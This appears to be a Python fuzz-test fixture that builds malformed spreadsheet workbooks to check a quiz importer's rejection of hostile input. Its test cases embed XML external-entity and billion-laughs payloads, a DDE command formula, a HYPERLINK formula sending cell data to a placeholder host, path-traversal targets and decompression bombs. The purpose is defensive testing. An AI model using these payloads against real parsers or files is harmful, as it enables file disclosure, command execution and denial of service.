"""Workbooks with something wrong in them, part by part: two good rows, and what a test puts around them."""

from __future__ import annotations

from collections.abc import Callable, Sequence

from fuzz.deck_words import Made
from fuzz.layout_decks import opened

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
KIND = "application/vnd.openxmlformats-officedocument.spreadsheetml"
SHEET, STRINGS, STYLES = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"
BOOK, LINKS = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
HEADER = ("Question", "Option 1", "Option 2", "Correct Answer")
GOOD = ("Which wall is cold?", "north", "south", "1")
DECLARED = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname"><!ENTITY b "bee">]>'


def xlsx(rows: str = "", *, strings: str = "", size: str = "A1:D3", behind: str = "", styles: str = "") -> Made:
    """A workbook whose texts are shared; `rows` follow the two good ones, `behind` follows the rows."""
    shared = "".join(f"<si><t>{text}</t></si>" for text in (*HEADER, *GOOD)) + strings
    good = "".join(_row(number, range(4 * number - 4, 4 * number)) for number in (1, 2))
    types = {"xl/workbook.xml": "sheet.main", SHEET: "worksheet", STRINGS: "sharedStrings", STYLES: "styles"}
    entries = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types">'
        + "".join(
            f'<Override PartName="/{name}" ContentType="{KIND}.{kind}+xml"/>' for name, kind in types.items()
        )
        + "</Types>",
        "_rels/.rels": _links(("officeDocument", BOOK)),
        BOOK: f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="S" sheetId="1" r:id="r1"/>'
        "</sheets></workbook>",
        LINKS: _links(("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")),
        SHEET: f'<worksheet xmlns="{MAIN}"><dimension ref="{size}"/><sheetData>{good}{rows}</sheetData>{behind}'
        "</worksheet>",
        STRINGS: f'<sst xmlns="{MAIN}" count="9" uniqueCount="9">{shared}</sst>',
        STYLES: f'<styleSheet xmlns="{MAIN}">{styles}</styleSheet>',
    }
    return Made("walls.xlsx", entries={name: text.encode() for name, text in entries.items()})


def _links(*targets: tuple[str, str]) -> str:
    links = "".join(
        f'<Relationship Id="r{number}" Type="{OFFICE}/{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate(targets, 1)
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{links}</Relationships>'


def _row(number: int, texts: Sequence[int]) -> str:
    cells = (f'<c r="{"ABCD"[at]}{number}" t="s"><v>{text}</v></c>' for at, text in enumerate(texts))
    return f'<row r="{number}">{"".join(cells)}</row>'


def odd(value: str, kind: str = "") -> str:
    """A third row whose first cell is odd."""
    return (
        f'<row r="3"><c r="A3" {kind}>{value}</c><c r="B3" t="s"><v>5</v></c><c r="C3" t="s"><v>6</v></c>'
        '<c r="D3"><v>1</v></c></row>'
    )


def changed(made: Made, part: str, old: str, new: str) -> Made:
    """With a text in one of the parts replaced."""
    assert old.encode() in made.entries[part]
    made.entries[part] = made.entries[part].replace(old.encode(), new.encode(), 1)
    return made


def ods(rows: str = "", *, top: str = "", behind: str = "", cut: int = 0) -> Made:
    """A spreadsheet with two good rows; `cut` bytes are missing at the end of its content."""
    good = "".join(line(*map(cell, texts)) for texts in (HEADER, GOOD))
    made = opened("walls.ods", f'<table:table table:name="S">{good}{rows}</table:table>{behind}', top)
    content = made.entries["content.xml"]
    made.entries["content.xml"] = content[: len(content) - cut]
    return made


def cell(text: str, more: str = "") -> str:
    """A cell of a spreadsheet."""
    return f"<table:table-cell {more}><text:p>{text}</text:p></table:table-cell>"


def line(*cells: str, often: str = "1") -> str:
    """A row of a spreadsheet."""
    return f'<table:table-row table:number-rows-repeated="{often}">{"".join(cells)}</table:table-row>'


def _protected() -> Made:
    made = ods()
    made.entries["content.xml"] = b"\x07\xb5" * 900
    made.entries["META-INF/manifest.xml"] = b"<manifest><encryption-data/></manifest>"
    return made


_LAUGHS = "<!DOCTYPE x [<!ENTITY a 'haha'>" + "".join(
    f"<!ENTITY {name} '{f'&{before};' * 20}'>" for before, name in zip("abcdefg", "bcdefgh", strict=True)
)
_WIDE = 'table:number-columns-repeated="16384"'
ATTACK, DAMAGED, BELOW = (
    "it may be an attack",
    "is a damaged workbook",
    "The workbook is damaged below this row",
)
TOO_MUCH, REPEATED = "far more than it can need", "of which 50 are read"
CASES: dict[str, tuple[Callable[[], Made], int, str, int | None]] = {
    "runs in runs": (
        lambda: xlsx(odd("<v>8</v>", 't="s"'), strings="<si>" + "<r>" * 30_000 + "</r>" * 30_000 + "</si>"),
        *(2, "it has no question text", 3),
    ),
    "texts without end": (lambda: xlsx(strings="<si/>" * 900_000), 0, TOO_MUCH, None),
    "styles without end": (lambda: xlsx(styles=f"<cellXfs>{'<xf/>' * 500_000}</cellXfs>"), 0, TOO_MUCH, None),
    "links without end": (
        lambda: xlsx(behind=f"<hyperlinks>{'<hyperlink/>' * 600_000}</hyperlinks>"),
        *(0, TOO_MUCH, None),
    ),
    "cells without end": (lambda: xlsx(f'<row r="3">{"<c/>" * 600_000}</row>'), 0, TOO_MUCH, None),
    "elements in elements": (lambda: xlsx(behind="<x>" * 600_000), 0, TOO_MUCH, None),
    "sheets without end": (
        lambda: changed(xlsx(), BOOK, "</sheets>", '<sheet name="S" r:id="r1"/>' * 500 + "</sheets>"),
        *(0, "more than 200 sheets", None),
    ),
    "all of a sheet claimed": (lambda: xlsx(size="A1:XFD1048576"), 1, "", None),
    "cells far apart": (
        lambda: xlsx("".join(f'<row r="{at}"><c r="XFD{at}"><v>1</v></c></row>' for at in (9_000, 99_999))),
        *(1, "", None),
    ),
    "an outer entity in a sheet": (
        lambda: changed(xlsx(), SHEET, "<work", f"{DECLARED}<work"),
        0,
        ATTACK,
        None,
    ),
    "an outer entity in texts": (lambda: changed(xlsx(), STRINGS, "<sst", f"{DECLARED}<sst"), 0, ATTACK, None),
    "an outer entity in styles": (
        lambda: changed(xlsx(), STYLES, "<style", f"{DECLARED}<style"),
        *(0, ATTACK, None),
    ),
    "laughs by the billion": (
        lambda: changed(xlsx(odd("<v>&h;</v>")), SHEET, "<work", f"{_LAUGHS}]><work"),
        *(0, ATTACK, None),
    ),
    "a formula without a value": (
        lambda: xlsx(odd('<f>HYPERLINK("http://a.invalid/"&amp;A1)</f>')),
        *(2, "it has no question text", 3),
    ),
    "a formula that starts a program": (lambda: xlsx(odd("<f>cmd|' /C x'!A0</f><v>4</v>")), 2, "", None),
    "errors in cells": (
        lambda: xlsx(odd("<v>#REF!</v>", 't="e"').replace("<v>1<", "<v>#N/A<").replace('"D3"', '"D3" t="e"')),
        *(2, 'The key "#N/A" fits no option', 3),
    ),
    "a sheet out of the file": (
        lambda: changed(xlsx(), LINKS, "worksheets/sheet1.xml", "../../../etc/passwd"),
        *(0, DAMAGED, None),
    ),
    "a name that leads out": (
        lambda: Made("walls.xlsx", entries={**xlsx().entries, "../../a.xml": b"<a/>"}),
        *(0, "an entry that no workbook has", None),
    ),
    "a bomb of a picture": (
        lambda: Made("walls.xlsx", entries={**xlsx().entries, "xl/media/a.png": bytes(20_000_000)}),
        *(0, "more than 100 times its size", None),
    ),
    "a workbook with a password": (
        lambda: Made(
            "walls.xlsx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") + bytes(900),
        ),
        *(0, "a password protects", None),
    ),
    "ODS: all of a sheet in one cell": (
        lambda: ods(line(cell("x", _WIDE), often="1048576")),
        *(51, REPEATED, 3),
    ),
    "ODS: all of a sheet, empty": (
        lambda: ods(line(f"<table:table-cell {_WIDE}/>", often="1048576")),
        *(1, "", None),
    ),
    "ODS: digits without end": (lambda: ods(line(*map(cell, GOOD), often="9" * 5_000)), 2, "", None),
    "ODS: spans in spans": (lambda: ods(line(cell("<text:span>" * 5_000))), 1, BELOW, 2),
    "ODS: sheets without end": (
        lambda: ods(
            behind="".join(f'<table:table table:name="T{at}">{line()}</table:table>' for at in range(99))
        ),
        *(1, "", None),
    ),
    "ODS: an outer entity": (lambda: ods(line(cell("&a;")), top=DECLARED), 0, ATTACK, 1),
    "ODS: a file that breaks off": (lambda: ods(cut=60), 1, BELOW, 2),
    "ODS: a password": (_protected, 0, "is protected by a password", None),
}
"""What is wrong: the workbook, how many questions come of it, what one of the sentences says, and its row."""
